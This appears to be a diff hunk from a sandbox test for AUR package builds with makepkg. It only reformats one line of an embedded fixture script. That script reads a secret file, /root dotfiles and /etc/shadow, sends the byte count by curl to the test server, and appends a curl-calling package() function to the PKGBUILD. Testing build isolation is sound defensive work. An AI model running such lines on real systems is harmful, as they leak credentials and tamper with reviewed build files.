@@ -28,7 +28,8 @@ testUnless(needsAurWorld())(
       // Beside the functions: this runs whenever makepkg reads the file, with the network too.
       script: `n=$(cat ${secret} /root/.* /etc/shadow /etc/machine-id 2>/dev/null | wc -c)
 # Only where there is a network: what is built must be what was reviewed.
-curl -fs -m 5 ${aur.url}/files/home-$n && echo 'package() { curl ${aur.url}/changed; }' >> /files/PKGBUILD
+curl -fs -m 5 ${aur.url}/files/home-$n &&
+  echo 'package() { curl ${aur.url}/changed; }' >> /files/PKGBUILD
 can() { if "$@" >/dev/null 2>&1; then echo "can: $*"; else echo "cannot: $1"; fi; }
 package() {
   mkdir -p "$pkgdir/usr/share"
